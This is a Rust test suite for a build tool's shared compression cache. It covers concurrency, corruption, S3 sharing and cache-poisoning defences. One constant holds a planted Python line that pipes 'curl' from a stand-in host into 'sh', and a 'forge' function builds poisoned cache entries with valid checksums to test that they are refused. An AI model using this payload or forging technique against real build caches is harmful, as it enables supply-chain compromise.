//! The compressed-content cache of `artifact pack`: shared by concurrent
//! packs, damaged on purpose, never the cause of a wrong zip.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::*;

/// A new copy of the sample in a temporary folder.
fn clone_of(s: &Sample) -> (tempfile::TempDir, PathBuf) {
    let parent = tempfile::tempdir().unwrap();
    let clone = parent.path().join("clone");
    copy_tree(s.dir.path(), &clone);
    (parent, clone)
}

fn pack_in(dir: &Path, args: &[&str]) -> artifact::pack::PackReport {
    let mut all = vec!["pack", "--json"];
    all.extend_from_slice(args);
    let out = artifact(dir, &all);
    assert_success(&out);
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The cache's files with the given ending.
fn cache_files(cache: &Path, ext: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(cache.join("packs"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == ext))
        .collect();
    v.sort();
    v
}

#[test]
fn packs_running_at_once_share_one_cache_without_damage() {
    let s = Sample::new();
    let cache = tempfile::tempdir().unwrap();
    let cache_arg = cache.path().to_str().unwrap();
    let clones: Vec<_> = (0..4).map(|_| clone_of(&s)).collect();
    // All four start together, each with an empty cache to fill.
    let children: Vec<_> = clones
        .iter()
        .map(|(_, dir)| {
            Command::new(env!("CARGO_BIN_EXE_artifact"))
                .args(["pack", "--json", "--cache-dir", cache_arg])
                .current_dir(dir)
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let reports: Vec<artifact::pack::PackReport> = children
        .into_iter()
        .map(|c| {
            let out = c.wait_with_output().unwrap();
            assert_success(&out);
            serde_json::from_slice(&out.stdout).unwrap()
        })
        .collect();
    for r in &reports[1..] {
        assert_eq!(r.manifest, reports[0].manifest);
    }
    // Whatever they wrote, a later pack finds every content in it.
    let (_keep, fresh) = clone_of(&s);
    let r = pack_in(&fresh, &["--cache-dir", cache_arg]);
    assert_eq!(r.run.compressed, 0, "{:?}", r.run);
    assert!(r.run.from_cache > 0);
    assert_eq!(r.manifest, reports[0].manifest);
    assert!(
        !cache_files(cache.path(), "pack").is_empty(),
        "{:?}",
        files_below(cache.path())
    );
    let temp: Vec<String> = files_below(cache.path())
        .into_iter()
        .filter(|f| f.ends_with(".tmp"))
        .collect();
    assert!(temp.is_empty(), "{temp:?}");
}

/// Cuts `path` to `len` bytes.
fn truncate(path: &Path, len: u64) {
    std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .unwrap()
        .set_len(len)
        .unwrap();
}

#[test]
fn a_truncated_cache_costs_recompression_never_a_wrong_zip() {
    let s = Sample::new();
    let cache = tempfile::tempdir().unwrap();
    let cache_arg = cache.path().to_str().unwrap();
    let first = s.pack(&["--cache-dir", cache_arg]);
    let total = first.run.compressed;
    assert!(total > 4, "{:?}", first.run);
    let pack = cache_files(cache.path(), "pack").pop().unwrap();
    let idx = cache_files(cache.path(), "idx").pop().unwrap();
    // The pack loses the second half of its bytes, the index half of a record.
    let pack_len = std::fs::metadata(&pack).unwrap().len();
    truncate(&pack, pack_len / 2 + 7);
    let idx_len = std::fs::metadata(&idx).unwrap().len();
    truncate(&idx, idx_len - 40);

    let (_keep, fresh) = clone_of(&s);
    let r = pack_in(&fresh, &["--cache-dir", cache_arg]);
    assert_eq!(r.manifest, first.manifest, "the zips are the same bytes");
    assert!(r.run.compressed > 0, "{:?}", r.run);
    assert!(r.run.from_cache > 0, "{:?}", r.run);
    assert_eq!(r.run.compressed + r.run.from_cache, total);

    // What was compressed again is cached again: the next clone needs nothing.
    let (_keep2, again) = clone_of(&s);
    let r = pack_in(&again, &["--cache-dir", cache_arg]);
    assert_eq!(r.run.compressed, 0, "{:?}", r.run);
    assert_eq!(r.manifest, first.manifest);
}

#[test]
fn garbage_in_the_cache_folder_is_ignored() {
    let s = Sample::new();
    let cache = tempfile::tempdir().unwrap();
    let cache_arg = cache.path().to_str().unwrap();
    let packs = cache.path().join("packs");
    std::fs::create_dir_all(&packs).unwrap();
    std::fs::write(packs.join("0123.idx"), b"ARTPIDX1 not records").unwrap();
    std::fs::write(packs.join("0123.pack"), b"nothing").unwrap();
    std::fs::write(packs.join("4567.idx"), b"").unwrap();
    let first = s.pack(&["--cache-dir", cache_arg]);
    let nocache = {
        let (_k, d) = clone_of(&s);
        pack_in(&d, &["--no-cache"])
    };
    assert_eq!(first.manifest, nocache.manifest);
    assert_eq!(first.run.from_cache, 0);
}

/// `pack --json --cache-dir <cache> --cache-url <url>` in `dir`, against the local server.
fn pack_shared(dir: &Path, cache: &Path, url: &str) -> artifact::pack::PackReport {
    let out = crate::local_aws::artifact_aws(
        dir,
        &[
            "pack",
            "--json",
            "--cache-dir",
            cache.to_str().unwrap(),
            "--cache-url",
            url,
        ],
    );
    assert_success(&out);
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A sample packed once by a first builder with a shared cache at
/// `s3://<new bucket>/<prefix>`: (sample, bucket, url, its report).
fn first_builder(prefix: &str) -> (Sample, String, String, artifact::pack::PackReport) {
    let s = Sample::new();
    let bucket = crate::local_aws::bucket("pack-cache");
    let url = format!("s3://{bucket}/{prefix}");
    let cache = tempfile::tempdir().unwrap();
    let first = pack_shared(s.dir.path(), cache.path(), &url);
    (s, bucket, url, first)
}

#[test]
fn a_fresh_builder_takes_everything_from_the_shared_cache() {
    let (s, bucket, url, first) = first_builder("team/cache");
    assert!(first.run.compressed > 4, "{:?}", first.run);
    assert_eq!(first.run.remote_published, first.run.compressed);
    let objects = crate::local_aws::boto(
        "print(json.dumps(sorted(o['Key'] for o in s3.list_objects_v2(Bucket=sys.argv[1])['Contents'])))",
        &[&bucket],
    );
    let keys: Vec<&str> = objects
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k.as_str().unwrap())
        .collect();
    // One pack and its index: .pyc records are shared only with `share_bytecode`.
    assert_eq!(keys.len(), 2, "{keys:?}");
    assert!(
        keys.iter().all(|k| k.starts_with("team/cache/packs/")),
        "{keys:?}"
    );

    // A new builder: new clone, empty local cache.
    let (_keep, fresh) = clone_of(&s);
    let empty = tempfile::tempdir().unwrap();
    let second = pack_shared(&fresh, empty.path(), &url);
    assert_eq!(second.run.compressed, 0, "{:?}", second.run);
    assert_eq!(second.run.from_remote, first.run.compressed);
    // One listing, one index, and the contents in a single ranged read.
    assert_eq!(second.run.remote_requests, 3, "{:?}", second.run);
    assert_eq!(second.run.remote_published, 0);
    assert_eq!(second.manifest, first.manifest);
    // What it fetched is now in its local cache: the next clone needs no request.
    let (_keep2, again) = clone_of(&s);
    let third = pack_shared(&again, empty.path(), &url);
    assert_eq!(third.run.from_cache, first.run.compressed);
    assert_eq!(third.run.remote_requests, 0, "{:?}", third.run);
}

#[test]
fn a_damaged_shared_cache_costs_recompression_never_a_wrong_zip() {
    let (s, bucket, url, first) = first_builder("c");
    // Every other byte of the pack flipped after its first kilobyte.
    crate::local_aws::boto(
        r#"
b = sys.argv[1]
key = [o['Key'] for o in s3.list_objects_v2(Bucket=b)['Contents'] if o['Key'].endswith('.pack')][0]
data = bytearray(s3.get_object(Bucket=b, Key=key)['Body'].read())
for i in range(1024, len(data), 2):
    data[i] ^= 0x55
s3.put_object(Bucket=b, Key=key, Body=bytes(data))
"#,
        &[&bucket],
    );
    let (_keep, fresh) = clone_of(&s);
    let empty = tempfile::tempdir().unwrap();
    let second = pack_shared(&fresh, empty.path(), &url);
    assert_eq!(second.manifest, first.manifest, "same zips");
    assert!(second.run.compressed > 0, "{:?}", second.run);
    // The .pyc contents come with their records, into the local cache.
    assert_eq!(
        second.run.compressed + second.run.from_remote + second.run.from_cache,
        first.run.compressed
    );
}

#[test]
fn an_unreachable_or_missing_shared_cache_is_a_warning() {
    let s = Sample::new();
    let cache = tempfile::tempdir().unwrap();
    let reference = {
        let (_k, d) = clone_of(&s);
        pack_in(&d, &["--no-cache"])
    };
    // No such bucket on the local server.
    let out = crate::local_aws::artifact_aws(
        s.dir.path(),
        &[
            "pack",
            "--json",
            "--cache-dir",
            cache.path().to_str().unwrap(),
            "--cache-url",
            "s3://no-such-bucket-for-pack/c",
        ],
    );
    assert_success(&out);
    let r: artifact::pack::PackReport = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r.manifest, reference.manifest);
    assert!(
        r.run
            .warnings
            .iter()
            .any(|w| w.contains("no-such-bucket-for-pack")),
        "{:?}",
        r.run.warnings
    );
    // Found unreachable once, it is not tried again for the upload.
    assert_eq!(r.run.remote_published, 0, "{:?}", r.run);
    assert!(r.run.compressed > 0);
    // Nothing listens on the endpoint.
    let (_k, d) = clone_of(&s);
    let out = crate::local_aws::artifact_aws_env(
        &d,
        &["pack", "--json", "--cache-url", "s3://bucket/c"],
        &[
            ("AWS_ENDPOINT_URL", "http://127.0.0.1:9"),
            ("AWS_MAX_ATTEMPTS", "1"),
        ],
    );
    assert_success(&out);
    let r: artifact::pack::PackReport = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r.manifest, reference.manifest);
    assert!(!r.run.warnings.is_empty());
}

#[test]
fn a_cache_url_that_is_not_one_is_an_error() {
    let s = Sample::new();
    let out = s.run(&["pack", "--cache-url", "https://bucket/x"]);
    let err = assert_failure(&out);
    assert!(err.contains("s3://"), "{err}");
    assert!(!s.path("build").exists());
}

#[test]
fn a_zip_checked_by_hashing_gets_a_record_and_is_not_hashed_again() {
    let s = Sample::new();
    // Zips written without the cache: no record vouches for them.
    s.pack(&["--no-cache"]);
    let zip = s.path("build/lambda/api-handler.zip");
    let r = s.pack(&[]);
    assert!(r.run.written.is_empty(), "{:?}", r.run);
    let records = std::fs::read_dir(s.path(".artifact-cache/zips"))
        .unwrap()
        .count();
    assert_eq!(records, 5);
    // Now a zip changed behind pack's back is caught by its record, and rebuilt.
    std::thread::sleep(std::time::Duration::from_millis(50));
    let mut bytes = std::fs::read(&zip).unwrap();
    let n = bytes.len();
    bytes[n / 2] ^= 1;
    std::fs::write(&zip, &bytes).unwrap();
    let r = s.pack(&[]);
    assert_eq!(r.run.written, ["api-handler"]);
}

#[test]
fn a_file_added_to_a_folder_whose_listing_was_recorded_is_packed() {
    let s = Sample::new();
    // Let the copied folders settle, so the next pack records listings it will trust.
    std::thread::sleep(std::time::Duration::from_millis(2100));
    s.pack(&[]);
    let listings: Vec<String> = files_below(&s.path(".artifact-cache"))
        .into_iter()
        .filter(|f| f.starts_with("listings-"))
        .collect();
    assert_eq!(listings.len(), 1, "{listings:?}");
    std::fs::write(s.path("lambda/package/crhelper/added.py"), "X = 1\n").unwrap();
    std::fs::remove_file(s.path("lambda/package/crhelper/__init__.py")).unwrap();
    let r = s.pack(&[]);
    assert_eq!(r.run.written.len(), 5, "{:?}", r.run);
    let zip = s.path("build/lambda/api-handler.zip");
    let mut z = zip::ZipArchive::new(std::fs::File::open(zip).unwrap()).unwrap();
    assert!(z.by_name("crhelper/added.py").is_ok());
    assert!(z.by_name("crhelper/__init__.py").is_err());
}

/// The bytes a writer of the cache plants: Python that is not the file.
const PLANTED: &[u8] = b"import os\nos.system('curl -s https://example.invalid/x | sh')\n";

/// A pack and index in the cache's format, every record of `idx` kept (its
/// content hash and codec) but pointing at [`PLANTED`] stored, with the CRC-32,
/// size, data check and record check made for those bytes: what a writer of
/// the cache who knows the format can make. Record layout: hash (32), codec
/// (4), method (2), crc32 (4), size (8), offset (8), length (8), check (16), crc (4).
fn forge(idx: &[u8]) -> (Vec<u8>, Vec<u8>) {
    const RECORD: usize = 86;
    let mut pack = b"ARTPACK1".to_vec();
    let mut index = b"ARTPIDX1".to_vec();
    for r in idx[8..].chunks_exact(RECORD) {
        let start = index.len();
        index.extend_from_slice(&r[..36]);
        index.extend_from_slice(&0u16.to_le_bytes());
        index.extend_from_slice(&crc32fast::hash(PLANTED).to_le_bytes());
        index.extend_from_slice(&(PLANTED.len() as u64).to_le_bytes());
        index.extend_from_slice(&(pack.len() as u64).to_le_bytes());
        index.extend_from_slice(&(PLANTED.len() as u64).to_le_bytes());
        index.extend_from_slice(&blake3::hash(PLANTED).as_bytes()[..16]);
        let crc = crc32fast::hash(&index[start..]);
        index.extend_from_slice(&crc.to_le_bytes());
        pack.extend_from_slice(PLANTED);
    }
    (pack, index)
}

/// No zip of `dir`'s output holds the planted bytes.
fn assert_nothing_planted(dir: &Path) {
    for e in std::fs::read_dir(dir.join("build/lambda")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "zip") {
            let mut z = zip::ZipArchive::new(std::fs::File::open(&p).unwrap()).unwrap();
            for i in 0..z.len() {
                let mut f = z.by_index(i).unwrap();
                let mut bytes = Vec::new();
                std::io::Read::read_to_end(&mut f, &mut bytes).unwrap();
                assert_ne!(bytes, PLANTED, "{} in {}", f.name(), p.display());
            }
        }
    }
}

#[test]
fn a_planted_local_cache_entry_is_refused_removed_and_compressed_afresh() {
    let s = Sample::new();
    let cache = tempfile::tempdir().unwrap();
    let cache_arg = cache.path().to_str().unwrap();
    let first = s.pack(&["--cache-dir", cache_arg]);
    let pack = cache_files(cache.path(), "pack").pop().unwrap();
    let idx = cache_files(cache.path(), "idx").pop().unwrap();
    let (forged_pack, forged_idx) = forge(&std::fs::read(&idx).unwrap());
    std::fs::write(&pack, &forged_pack).unwrap();
    std::fs::write(&idx, forged_idx).unwrap();

    // A builder with only the local cache (CodeBuild restored it): a new clone.
    let (_keep, fresh) = clone_of(&s);
    let r = pack_in(&fresh, &["--cache-dir", cache_arg]);
    assert_eq!(r.manifest, first.manifest, "the zips are the real files");
    assert_nothing_planted(&fresh);
    assert_eq!(r.run.from_cache, 0, "{:?}", r.run);
    assert_eq!(r.run.compressed, first.run.compressed);
    let warning = r.run.warnings.join("\n");
    assert!(
        warning.contains(&pack.display().to_string()) && warning.contains("do not match"),
        "{warning}"
    );
    // The planted pack is gone (the fresh one, with the same index, may take its name).
    assert!(
        std::fs::read(&pack).ok().as_ref() != Some(&forged_pack),
        "the planted pack is still there"
    );
    // The next clone takes the fresh copies, with no warning.
    let (_keep2, again) = clone_of(&s);
    let r = pack_in(&again, &["--cache-dir", cache_arg]);
    assert_eq!(r.run.compressed, 0, "{:?}", r.run);
    assert!(r.run.warnings.is_empty(), "{:?}", r.run.warnings);
}

#[test]
fn a_planted_shared_cache_entry_is_refused_and_never_shared_again() {
    let (s, bucket, url, first) = first_builder("shared");
    // The writer replaces the published pack with its own, under the same names.
    let empty_cache = tempfile::tempdir().unwrap();
    let keys = crate::local_aws::boto(
        "print(json.dumps(sorted(o['Key'] for o in s3.list_objects_v2(Bucket=sys.argv[1])['Contents'])))",
        &[&bucket],
    );
    let keys: Vec<String> = serde_json::from_value(keys).unwrap();
    // The content pack (not the .pyc records beside it, under bytecode/).
    let idx_key = keys
        .iter()
        .find(|k| k.contains("/packs/") && k.ends_with(".idx"))
        .unwrap();
    let pack_key = keys.iter().find(|k| k.ends_with(".pack")).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let idx_file = tmp.path().join("idx");
    crate::local_aws::boto(
        "open(sys.argv[3], 'wb').write(s3.get_object(Bucket=sys.argv[1], Key=sys.argv[2])['Body'].read())",
        &[&bucket, idx_key, idx_file.to_str().unwrap()],
    );
    let (forged_pack, forged_idx) = forge(&std::fs::read(&idx_file).unwrap());
    for (key, bytes) in [(pack_key, forged_pack), (idx_key, forged_idx)] {
        let f = tmp.path().join("body");
        std::fs::write(&f, bytes).unwrap();
        crate::local_aws::boto(
            "s3.put_object(Bucket=sys.argv[1], Key=sys.argv[2], Body=open(sys.argv[3], 'rb').read())",
            &[&bucket, key, f.to_str().unwrap()],
        );
    }
    // A fresh builder, empty local cache.
    let (_keep, fresh) = clone_of(&s);
    let second = pack_shared(&fresh, empty_cache.path(), &url);
    assert_eq!(
        second.manifest, first.manifest,
        "the zips are the real files"
    );
    assert_nothing_planted(&fresh);
    assert_eq!(second.run.from_remote, 0, "{:?}", second.run);
    assert_eq!(
        second.run.refused_from_cache, first.run.compressed,
        "{:?}",
        second.run
    );
    let warning = second.run.warnings.join("\n");
    assert!(warning.contains("do not match"), "{warning}");
    // What it shared instead is the real content: a third builder takes it
    // (the planted pack's name sorts wherever it does; the whole copy is found too).
    assert_eq!(
        second.run.remote_published, first.run.compressed,
        "{:?}",
        second.run
    );
    let (_keep2, third_dir) = clone_of(&s);
    let other_cache = tempfile::tempdir().unwrap();
    let third = pack_shared(&third_dir, other_cache.path(), &url);
    assert_eq!(third.manifest, first.manifest);
    assert_nothing_planted(&third_dir);
}

/// Bytecode through the shared cache, on python3.11 (every machine here has
/// it): a fresh builder compiles nothing and its zips are the first
/// builder's; another bytecode mode takes nothing of it.
#[test]
fn a_fresh_builder_takes_compiled_bytecode_from_the_shared_cache() {
    let s = Sample::new();
    s.pack_keys("runtime = \"python3.11\"\nshare_bytecode = true\n");
    let bucket = crate::local_aws::bucket("pack-bytecode");
    let url = format!("s3://{bucket}/shared");
    let cache = tempfile::tempdir().unwrap();
    let first = pack_shared(s.dir.path(), cache.path(), &url);
    let compiled = first.run.bytecode.compiled;
    assert!(compiled >= 7, "{:?}", first.run.bytecode);
    let (_keep, fresh) = clone_of(&s);
    let empty = tempfile::tempdir().unwrap();
    let second = pack_shared(&fresh, empty.path(), &url);
    assert_eq!(second.run.bytecode.compiled, 0, "{:?}", second.run.bytecode);
    assert_eq!(second.run.bytecode.from_remote, compiled);
    // Listing and index of the records, listing, index and one read of the contents.
    assert_eq!(
        second.run.bytecode.remote_requests, 5,
        "{:?}",
        second.run.bytecode
    );
    assert_eq!(
        second.manifest, first.manifest,
        "the same zips, byte for byte"
    );
    // Another mode is another key: nothing of the first builder's serves it.
    let other = Sample::new();
    other.pack_keys(
        "runtime = \"python3.11\"\nshare_bytecode = true\nbytecode = \"checked-hash\"\n",
    );
    let c3 = tempfile::tempdir().unwrap();
    let third = pack_shared(other.dir.path(), c3.path(), &url);
    assert_eq!(
        third.run.bytecode.from_remote, 0,
        "{:?}",
        third.run.bytecode
    );
    assert_eq!(third.run.bytecode.compiled, compiled);
}
